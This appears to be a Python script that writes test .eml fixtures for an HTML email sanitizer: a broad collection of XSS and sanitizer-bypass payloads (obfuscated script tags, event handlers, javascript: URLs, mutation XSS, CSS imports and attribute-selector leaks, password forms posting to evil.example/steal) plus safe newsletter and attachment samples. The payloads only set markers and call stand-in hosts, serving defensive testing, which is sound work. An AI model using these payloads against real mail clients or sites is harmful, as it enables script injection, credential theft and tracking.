"""Write tests/data/hostile/*.eml and tests/data/safe/*.eml (run once; the .eml files are committed).

Every script payload marks execution (alert(1), window.__xss=1 or top.__xss=1) and every remote
reference points at tracker.invalid or evil.example, so a browser test can detect both.
"""

from __future__ import annotations

import base64
from pathlib import Path

HERE = Path(__file__).parent
X = "alert(1);window.__xss=1;top.__xss=1"
T = "http://tracker.invalid"
E = "https://evil.example"

HOSTILE: dict[str, str] = {
    "script-disguises": f"""<p>Script tags in every disguise.</p>
<script>{X}</script><SCRIPT>{X}</SCRIPT><ScRiPt >{X}</sCrIpT>
<script
type="text/javascript">{X}</script><script/src="{E}/x.js"></script>
<scr<script>ipt>{X}</script><scr\x00ipt>{X}</scr\x00ipt><script src={E}/a.js?
<!--<script>{X}</script>--><![CDATA[<script>{X}</script>]]>
<script>/*</script><script>*/{X}</script>
<<script>script>{X}<</script>/script>
<script type="module">{X}</script><script defer src="{T}/s.js"></script>
<div>&lt;script&gt;{X}&lt;/script&gt; is text</div>""",
    "event-handlers": f"""<p>Event handlers.</p>
<img src=x onerror="{X}"><img src="x" ONERROR={X}><img/src=x/onerror={X}>
<body onload="{X}"><svg onload="{X}"></svg>
<div onmouseover="{X}">hover</div><a href="https://ok.example/" onclick="{X}">click</a>
<input autofocus onfocus="{X}"><select autofocus onfocus="{X}"></select><textarea autofocus onfocus="{X}"></textarea>
<details open ontoggle="{X}"><summary>s</summary></details>
<style>@keyframes k{{from{{color:red}}}}</style><p style="animation-name:k" onanimationstart="{X}">anim</p>
<marquee onstart="{X}">m</marquee><video src=x onerror="{X}"></video><audio src=x onerror="{X}"></audio>
<iframe onload="{X}"></iframe><object onerror="{X}"></object><form onsubmit="{X}"><button>b</button></form>
<p onpointerenter="{X}" onfocusin="{X}" tabindex=1 autofocus>p</p><img src=x oNeRrOr&#61;{X}>
<img src=x onerror\x0b="{X}"><img """ + "\"\"" + f""" onerror="{X}">""",
    "javascript-urls": f"""<p>javascript:, vbscript: and data: URLs in every URL attribute.</p>
<a href="javascript:{X}">a</a><a href="JaVaScRiPt:{X}">b</a><a href=" javascript:{X}">c</a>
<a href="jav&#x09;ascript:{X}">d</a><a href="&#106;avascript:{X}">e</a><a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{X}">f</a>
<a href="jav&#x0A;ascript:{X}">g</a><a href="java\x00script:{X}">h</a><a href="&#0000106avascript:{X}">i</a>
<a href="vbscript:msgbox(1)">j</a><a href="data:text/html;base64,{base64.b64encode(f'<script>{X}</script>'.encode()).decode()}">k</a>
<a href="data:text/html,<script>{X}</script>">l</a><a href="jaVasCript:/*-/*`/*\\`/*'/*&quot;/**/(/* */{X} )//">m</a>
<img src="javascript:{X}"><img src="vbscript:msgbox(1)"><img src="data:image/svg+xml;base64,{base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{X}"/>'.encode()).decode()}">
<form action="javascript:{X}"><input type="submit" formaction="javascript:{X}"><button formaction="javascript:{X}">go</button></form>
<table background="javascript:{X}"><tr><td background="javascript:{X}">t</td></tr></table>
<video poster="javascript:{X}"></video><img lowsrc="javascript:{X}"><img dynsrc="javascript:{X}">
<img srcset="javascript:{X} 1x"><svg><a xlink:href="javascript:{X}"><text y="20">svg link</text></a></svg>
<p style="background:url(javascript:{X})">style url</p><iframe src="javascript:{X}"></iframe>
<object data="javascript:{X}"></object><embed src="javascript:{X}"><isindex action="javascript:{X}">
<a href="https://ok.example/safe">a safe link</a>""",
    "svg-mathml": f"""<p>SVG and MathML.</p>
<svg><script>{X}</script></svg><svg><script href="data:,{X}"></script></svg>
<svg onload="{X}"><circle r="10"/></svg><svg><animate onbegin="{X}" attributeName="x" dur="1s"/></svg>
<svg><a><animate attributeName="href" values="javascript:{X}"/><text y="20">animate href</text></a></svg>
<svg><set attributeName="onmouseover" to="{X}"/></svg><svg><image href="{T}/svg.png"/></svg>
<svg><foreignObject><iframe srcdoc="&lt;script&gt;{X}&lt;/script&gt;"></iframe><img src=x onerror="{X}"></foreignObject></svg>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PC9zdmc+#x"/></svg><svg><style>@import "{E}/svg.css";</style></svg>
<math><maction actiontype="statusline" xlink:href="javascript:{X}">click</maction></math>
<math href="javascript:{X}"><mi>x</mi></math><math><mtext><script>{X}</script></mtext></math>""",
    "css-attacks": f"""<html><head><style>
@import url({E}/import.css); @import '{T}/import2.css';
@font-face {{ font-family: Evil; src: url({T}/font.woff2) format("woff2"); }}
body {{ background: url({T}/bg.png); behavior: url({E}/x.htc); -moz-binding: url({E}/x.xml#xss); }}
p.x {{ color: expression({X}); width: expression(alert(1)); }}
.y {{ background-image: u\\72l({T}/escaped.png); list-style-image: url({T}/list.png); cursor: url({T}/c.cur), auto; }}
.z {{ content: url({T}/content.png); background: image-set("{T}/set.png" 1x); }}
input[value^="a"] {{ background: url({T}/leak?a); }}
</style></head><body>
<p style="background:url({T}/inline.png)">inline url</p><p style="background-image:url('{T}/q.png')">quoted</p>
<p style="width:expression({X})">expr</p><p style="behavior:url({E}/b.htc)">behavior</p><p style="-moz-binding:url({E}/m.xml#x)">binding</p>
<p style="background:u&#x72;l({T}/entity.png)">entity url</p><p style="background:url(/*x*/{T}/comment.png)">comment</p>
<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">overlay</p>
<p style="color:red;x:expression({X})">red</p><p style="font-family:'Evil'">evil font</p>
<div style="background:#fff url(&quot;{T}/dq.png&quot;) no-repeat">dq</div>
</body></html>""",
    "mutation-xss-math": f"""<p>Mutation XSS through MathML.</p>
<math><mtext><table><mglyph><style><img src=x onerror="{X}">
</style></mglyph></table></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror={X}&gt;">""",
    "mutation-xss": f"""<p>Mutation XSS patterns.</p>
<noscript><p title="</noscript><img src=x onerror={X}>"></noscript>
<style><img src=x onerror="{X}"></style><title><img src=x onerror="{X}"></title>
<textarea><img src=x onerror="{X}"></textarea><template><img src=x onerror="{X}"></template>
<iframe srcdoc="<script>{X}</script>"></iframe><iframe srcdoc="&lt;img src=x onerror={X}&gt;"></iframe>
<svg></p><style><a id="</style><img src=1 onerror={X}>"></svg>
<form><math><mtext></form><form><mglyph><style></math><img src onerror={X}></style></mglyph></mtext></math>
<xmp><img src=x onerror="{X}"></xmp><noembed><img src=x onerror="{X}"></noembed><noframes><img src=x onerror="{X}"></noframes>
<a href="https://ok.example/"><table><a href="javascript:{X}">nested</a></table></a>
<div><p><b><i>misnested</b></i></p></div><select><option><img src=x onerror="{X}"></option></select>
<listing><img src=x onerror="{X}"></listing><plaintext><img src=x onerror="{X}">""",
    "base-meta-link": f"""<html><head>
<base href="{E}/"><meta http-equiv="refresh" content="0;url=javascript:{X}">
<meta http-equiv="refresh" content="0;url={E}/refresh"><meta http-equiv="Set-Cookie" content="a=b">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel="stylesheet" href="{E}/style.css"><link rel="import" href="{E}/import.html">
<link rel="prefetch" href="{T}/prefetch"><link rel="dns-prefetch" href="//dns.tracker.invalid">
<link rel="preconnect" href="{T}"><link rel="preload" as="image" href="{T}/preload.png">
<link rel="icon" href="{T}/favicon.ico">
</head><body><p>Relative links after base:</p><a href="page.html">relative</a><img src="rel.png"></body></html>""",
    "forms-and-embeds": f"""<p>Forms, frames, objects, embeds, applets.</p>
<form action="{E}/phish" method="post"><input name="password" type="password"><input type="image" src="{T}/input.png">
<button formaction="{E}/steal">Log in</button><input type="submit" formaction="javascript:{X}"></form>
<iframe src="{E}/frame"></iframe><iframe src="data:text/html,<script>{X}</script>"></iframe>
<frameset><frame src="{E}/f"></frameset><object data="{E}/o.swf" type="application/x-shockwave-flash"></object>
<embed src="{E}/e.swf"><applet code="X.class" codebase="{E}/"></applet><portal src="{E}/portal"></portal>
<keygen autofocus onfocus="{X}"><isindex type=image src=1 onerror="{X}">""",
    "tracking-and-media": f"""<p>Tracking pixels, remote fonts, media, pings.</p>
<img src="{T}/pixel.gif" width="1" height="1"><img src="//tracker.invalid/protocol-relative.gif">
<img src="\\\\tracker.invalid\\backslash.gif"><IMG SRC="{T.upper()}/UPPER.GIF">
<img srcset="{T}/srcset.png 1x, {T}/srcset2.png 2x"><img src="x.png" lowsrc="{T}/lowsrc.png" dynsrc="{T}/dyn.avi">
<picture><source srcset="{T}/picture.webp"><img src="{T}/picture.png"></picture>
<audio src="{T}/a.mp3" autoplay></audio><video src="{T}/v.mp4" poster="{T}/poster.png" autoplay><source src="{T}/s.mp4"><track src="{T}/t.vtt"></video>
<a href="https://ok.example/" ping="{T}/ping">pinged link</a><input type="image" src="{T}/input-image.png">
<body background="{T}/body-bg.png"><table background="{T}/table-bg.png"><tr><td background="{T}/td-bg.png">cell</td></tr></table>
<div style="background-image:url({T}/div-bg.png)">div</div><style>@font-face{{font-family:F;src:url({T}/f.woff)}}</style>
<object data="{T}/o.png"></object><embed src="{T}/e.png"><iframe src="{T}/i.html" width=1 height=1></iframe>
<link rel=stylesheet href="{T}/late.css"><img src="{E}/https-pixel.gif">""",
    "css-comments": f"""<p>CSS functions parted from their parenthesis by a comment.</p>
<style>.a{{color:red;background-image:url/**/({E}/comment-url.png)}}
.b{{background:image-set/**/("{E}/comment-set.png" 1x)}}
.c{{background-image:cross-fade/**/(url({E}/fade-a.png), url({E}/fade-b.png))}}</style>
<div class="a">a</div><div class="b">b</div><div class="c">c</div>
<p style="margin:0/**/auto;background:url/* x */('{E}/comment-inline.png')">inline</p>""",
    "malformed-nesting": """<p>Malformed and nested tags.</p>
<div><div><div><span><b><i><u>""" + "<div>" * 400 + "deep" + "</div>" * 400 + f"""
<img src="x" alt="unterminated <script>{X}</script>
<a href="https://ok.example/" title='a' title="b">dup attr</a><img src=x onerror={X}//
<p>unclosed <b>bold <i>italic <a href="https://ok.example/">link
<table><tr><td><table><tr><td><script>{X}</script>
</td></tr></table><div><<img src=x onerror="{X}">>
<img """ + "a=b " * 200 + f"""onerror="{X}">
<!-- unterminated comment <script>{X}</script>""",
}

HTML_HEAD = "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>t</title></head><body>"


def message(subject: str, html: str, *, extra: str = "") -> bytes:
    body = html if "<html" in html.lower() else f"{HTML_HEAD}{html}</body></html>"
    return (
        "From: Mallory <mallory@evil.example>\r\nTo: Reader <reader@example.org>\r\n"
        f"Subject: {subject}\r\nDate: Tue, 04 Mar 2025 10:00:00 +0000\r\n"
        f"Message-ID: <{subject.replace(' ', '-')}@evil.example>\r\nMIME-Version: 1.0\r\n{extra}"
        "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        f"{body}\r\n"
    ).encode("utf-8", "surrogateescape")


def main() -> None:
    hostile = HERE / "hostile"
    hostile.mkdir(exist_ok=True)
    for name, html in HOSTILE.items():
        (hostile / f"{name}.eml").write_bytes(message(f"hostile {name}", html))
    # The same payloads inside multipart/alternative with a quoted-printable HTML part.
    import quopri
    qp = quopri.encodestring(message("x", HOSTILE["event-handlers"]).split(b"\r\n\r\n", 1)[1]).decode()
    (hostile / "event-handlers-multipart-qp.eml").write_bytes((
        "From: Mallory <mallory@evil.example>\r\nTo: reader@example.org\r\nSubject: hostile qp\r\n"
        "Date: Tue, 04 Mar 2025 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/alternative; boundary="b1"\r\n\r\n--b1\r\n'
        "Content-Type: text/plain; charset=utf-8\r\n\r\nplain version\r\n--b1\r\n"
        "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
        f"{qp}\r\n--b1--\r\n").encode())
    safe = HERE / "safe"
    safe.mkdir(exist_ok=True)
    (safe / "newsletter-related-cid.eml").write_bytes(newsletter())
    (safe / "attachments-many-scripts.eml").write_bytes(attachments())


def newsletter() -> bytes:
    png = base64.b64encode(bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6360f8cf00000301010018dd8db00000000049454e44ae426082")).decode()
    html = """<!DOCTYPE html><html><head><meta charset="utf-8"><style>
.wrap { width: 600px; margin: 0 auto; } td.cell { padding: 8px; color: #333333; }
@media (max-width: 600px) { .wrap { width: 100% !important; } }</style></head><body>
<table class="wrap" width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff">
<tr><td class="cell" align="center"><img src="cid:logo@news.example" alt="Logo" width="120" height="40"></td></tr>
<tr><td class="cell" style="font-family: Arial, sans-serif; font-size: 16px; line-height: 24px;">
<h1 style="color:#0b5394">Spring update</h1><p>Our garden centre opens on <b>Saturday</b>.</p>
<p><a href="https://news.example/spring?utm_source=mail&amp;utm_medium=email">Read more</a></p></td></tr>
<tr><td background="cid:bg@news.example" style="background-color:#eeeeee">Footer &copy; 2025 &mdash; <a href="mailto:help@news.example">help@news.example</a></td></tr>
</table></body></html>"""
    return (
        "From: =?UTF-8?Q?Garden_Caf=C3=A9?= <news@news.example>\r\nTo: reader@example.org\r\n"
        "Subject: =?UTF-8?B?U3ByaW5nIHVwZGF0ZSDwn4y3?=\r\nDate: Tue, 04 Mar 2025 10:00:00 +0000\r\n"
        "MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n"
        "--alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSpring update\r\nRead more: https://news.example/spring\r\n"
        "--alt\r\nContent-Type: multipart/related; boundary=\"rel\"; type=\"text/html\"\r\n\r\n"
        "--rel\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        f"{html}\r\n--rel\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\n"
        f"Content-ID: <logo@news.example>\r\nContent-Disposition: inline; filename=\"logo.png\"\r\n\r\n{png}\r\n"
        f"--rel\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\nContent-ID: <bg@news.example>\r\n\r\n{png}\r\n"
        "--rel--\r\n--alt--\r\n"
    ).encode()


def attachments() -> bytes:
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{X}"><script>{X}</script></svg>'
    html = f"<html><body><script>{X}</script><img src='{T}/att.png'></body></html>"
    parts = [
        ("text/plain; charset=utf-8", "", "See the attached files.\r\n"),
        ("application/pdf", "attachment; filename*=UTF-8''%D0%A1%D1%87%D1%91%D1%82%20%E2%84%965.pdf",
         base64.b64encode(b"%PDF-1.4 cyrillic").decode()),
        ("application/pdf", 'attachment; filename="=?UTF-8?B?5pel5pys6Kqe44Gu5paH5pu4LnBkZg==?="',
         base64.b64encode(b"%PDF-1.4 japanese").decode()),
        ("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
         "attachment; filename*0*=UTF-8''%D8%AA%D9%82%D8%B1%D9%8A%D8%B1; filename*1=.docx",
         base64.b64encode(b"PK arabic").decode()),
        ("image/png", 'attachment; filename="=?utf-8?Q?party_=F0=9F=8E=89.png?="',
         base64.b64encode(b"\x89PNG emoji").decode()),
        ("text/html; charset=utf-8", 'attachment; filename="invoice.html"', base64.b64encode(html.encode()).decode()),
        ("image/svg+xml", 'inline; filename="chart.svg"', base64.b64encode(svg.encode()).decode()),
        ("text/plain; charset=windows-1252", "attachment; filename=\"caf\xe9.txt\"",
         base64.b64encode("caf\xe9 cr\xe8me".encode("cp1252")).decode()),
    ]
    out = ("From: Alice <alice@example.org>\r\nTo: reader@example.org\r\nSubject: Files in many scripts\r\n"
           "Date: Tue, 04 Mar 2025 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
           'Content-Type: multipart/mixed; boundary="mix"\r\n\r\n')
    for ctype, disposition, body in parts:
        out += f"--mix\r\nContent-Type: {ctype}\r\n"
        if disposition:
            out += f"Content-Disposition: {disposition}\r\n"
        if body.endswith("\r\n"):
            out += f"\r\n{body}"
        else:
            out += f"Content-Transfer-Encoding: base64\r\n\r\n{body}\r\n"
    out += "--mix--\r\n"
    return out.encode("latin-1")


if __name__ == "__main__":
    main()
